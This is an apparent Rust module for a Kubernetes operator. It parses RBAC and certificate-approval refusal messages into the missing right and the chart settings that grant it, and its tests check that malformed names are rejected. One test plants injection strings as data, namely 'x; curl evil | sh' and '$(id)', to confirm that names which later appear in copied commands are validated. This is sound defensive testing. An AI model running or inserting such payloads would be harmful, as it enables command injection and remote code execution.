//! Right that a role lacks, out of the API server's refusal: its `Status` has no field for account, verb and resource.

use super::error::FORBIDDEN;
use dormer_proto::message::Failure;

/// What the API server calls a ServiceAccount, before its namespace and name.
const SERVICE_ACCOUNT: &str = "system:serviceaccount:";

/// Right that a refusal names.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct LackedRight {
    /// Whose requests were refused. `None`: the refusal names only the right.
    pub account: Option<RefusedAccount>,
    /// Verb, resource and namespace, as `dormer preflight --cluster` writes them.
    pub right: String,
    /// Settings of the chart that grant it, the likeliest first. None: every installation has the right.
    pub settings: Vec<String>,
}

/// Account in a refusal.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub enum RefusedAccount {
    /// Account of a pod.
    ServiceAccount { namespace: String, name: String },
    /// Any other account, such as that of a kubeconfig.
    User(String),
}

impl RefusedAccount {
    /// `None`: a pod's account whose namespace or name cannot be one.
    fn of(account: &str) -> Option<Self> {
        let Some(of_pod) = account.strip_prefix(SERVICE_ACCOUNT) else {
            return Some(Self::User(account.to_owned()));
        };
        let (namespace, name) = of_pod.split_once(':')?;
        (is_name(namespace) && is_name(name)).then(|| Self::ServiceAccount {
            namespace: namespace.to_owned(),
            name: name.to_owned(),
        })
    }
}

/// Whether Kubernetes could have an object of that name. Names become part of a command that people copy.
fn is_name(text: &str) -> bool {
    let fits = |c: char| matches!(c, 'a'..='z' | '0'..='9' | '-' | '.');
    !text.is_empty() && !text.starts_with('-') && text.chars().all(fits)
}

impl LackedRight {
    /// The right in a failure of a task. `None`: the API server did not refuse it for want of a right, or the message was
    /// cut. The code decides: a host writes the message of its own failures.
    #[must_use]
    pub fn of_failure(failure: &Failure) -> Option<Self> {
        (failure.code == FORBIDDEN)
            .then(|| Self::of(&failure.message))
            .flatten()
    }

    /// The right in a text of the API server's. `None`: it is no refusal for want of a right, or it was cut. A refusal by
    /// an admission policy names no right.
    #[must_use]
    pub fn of(message: &str) -> Option<Self> {
        Self::of_authorizer(message).or_else(|| Self::of_signer(message))
    }

    /// Refusal by RBAC or another authorizer. Only these name user and verb (Kubernetes' `forbiddenMessage`).
    fn of_authorizer(message: &str) -> Option<Self> {
        let (_, rest) = message.split_once("is forbidden: User \"")?;
        let (account, rest) = rest.split_once("\" cannot ")?;
        let (verb, rest) = rest.split_once(" resource \"")?;
        let (resource, rest) = rest.split_once("\" in API group \"")?;
        let (group, rest) = rest.split_once('"')?;
        let namespace = match rest.strip_prefix(" in the namespace \"") {
            Some(rest) => Some(rest.split_once('"')?.0),
            None if rest.starts_with(" at the cluster scope") => None,
            // It was cut, and the namespace with it.
            None => return None,
        };
        if namespace.is_some_and(|it| !is_name(it)) {
            return None;
        }
        let dot = if group.is_empty() { "" } else { "." };
        let within = namespace.map_or_else(String::new, |it| format!(" in {it}"));
        Some(Self {
            account: Some(RefusedAccount::of(account)?),
            right: format!("{verb} {resource}{dot}{group}{within}"),
            settings: settings(verb, resource, group, namespace),
        })
    }

    /// Refusal by the admission plugin `CertificateApproval`, which asks for the verb `approve` on the signer.
    fn of_signer(message: &str) -> Option<Self> {
        let (_, rest) =
            message.split_once("not permitted to approve requests with signerName \"")?;
        let (signer, _) = rest.split_once('"')?;
        Some(Self {
            account: None,
            right: format!("approve signers.certificates.k8s.io/{signer}"),
            settings: Vec::new(),
        })
    }
}

/// Settings of the chart without which it does not grant the right (`deploy/chart/templates/rbac.yaml`,
/// `deploy/chart/templates/canary.yaml`).
fn settings(verb: &str, resource: &str, group: &str, namespace: Option<&str>) -> Vec<String> {
    match (group, resource, verb) {
        ("cluster.x-k8s.io", _, _) => {
            let namespace = namespace.unwrap_or("'*'");
            vec![format!("clusterApiNamespace={namespace}")]
        }
        ("dormer.io", "windowshosts" | "windowshosts/status", _) | ("", "nodes", "delete") => {
            vec!["ownHosts=true".to_owned()]
        }
        ("", "pods", "delete") => {
            let forced = Some("forcedDrains=true".to_owned());
            forced.into_iter().chain(canaries(namespace)).collect()
        }
        ("", "pods", "create") | ("", "pods/log" | "pods/exec" | "services", _) => {
            canaries(namespace).into_iter().collect()
        }
        _ => Vec::new(),
    }
}

/// Setting with which workers may run canary pods in that namespace, and nowhere else.
fn canaries(namespace: Option<&str>) -> Option<String> {
    namespace.map(|it| format!("canaryNamespace={it}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    const REFUSAL: &str = "dormer may not patch Machine m/win-a: machines.machine.openshift.io \"win-a\" is forbidden: User \
                           \"system:serviceaccount:home:dormer-worker\" cannot patch resource \"machines\" in API group \
                           \"machine.openshift.io\" in the namespace \"m\"";

    #[test]
    fn a_refusal_names_account_right_and_namespace() {
        let found = LackedRight::of(REFUSAL).expect("a right");
        let account = RefusedAccount::ServiceAccount {
            namespace: "home".to_owned(),
            name: "dormer-worker".to_owned(),
        };
        assert_eq!(found.account, Some(account));
        assert_eq!(found.right, "patch machines.machine.openshift.io in m");
        assert!(found.settings.is_empty(), "{found:?}");
        let of_person = REFUSAL.replace("system:serviceaccount:home:dormer-worker", "ann");
        let found = LackedRight::of(&of_person).expect("a right");
        assert_eq!(found.account, Some(RefusedAccount::User("ann".to_owned())));
    }

    /// A host writes the message of its own failures, and the console shows the namespaces in commands.
    #[test]
    fn only_a_refusal_by_the_api_server_with_names_of_kubernetes_counts() {
        let refused = Failure::transient(FORBIDDEN, REFUSAL);
        assert_eq!(LackedRight::of_failure(&refused), LackedRight::of(REFUSAL));
        let of_host = Failure::transient("other", REFUSAL);
        assert_eq!(LackedRight::of_failure(&of_host), None);
        for planted in ["x; curl evil | sh", "$(id)", "-x", "", "A"] {
            for planted in [
                REFUSAL.replace(":home:", &format!(":{planted}:")),
                REFUSAL.replace(":dormer-worker", &format!(":{planted}")),
                REFUSAL.replace("namespace \"m\"", &format!("namespace \"{planted}\"")),
            ] {
                assert_eq!(LackedRight::of(&planted), None, "{planted}");
            }
        }
    }

    /// A failure's message has a limit, and half of a name would be another one.
    #[test]
    fn a_refusal_that_was_cut_names_no_right() {
        let of_cluster = REFUSAL.replace("in the namespace \"m\"", "at the cluster scope");
        let found = LackedRight::of(&of_cluster).expect("a right");
        assert_eq!(found.right, "patch machines.machine.openshift.io");
        for whole in [REFUSAL, of_cluster.as_str()] {
            for end in 0..whole.len() {
                assert_eq!(LackedRight::of(&whole[..end]), None, "{end}");
            }
        }
        assert_eq!(
            LackedRight::of(&format!("{}…", &REFUSAL[..REFUSAL.len() - 8])),
            None
        );
    }
}
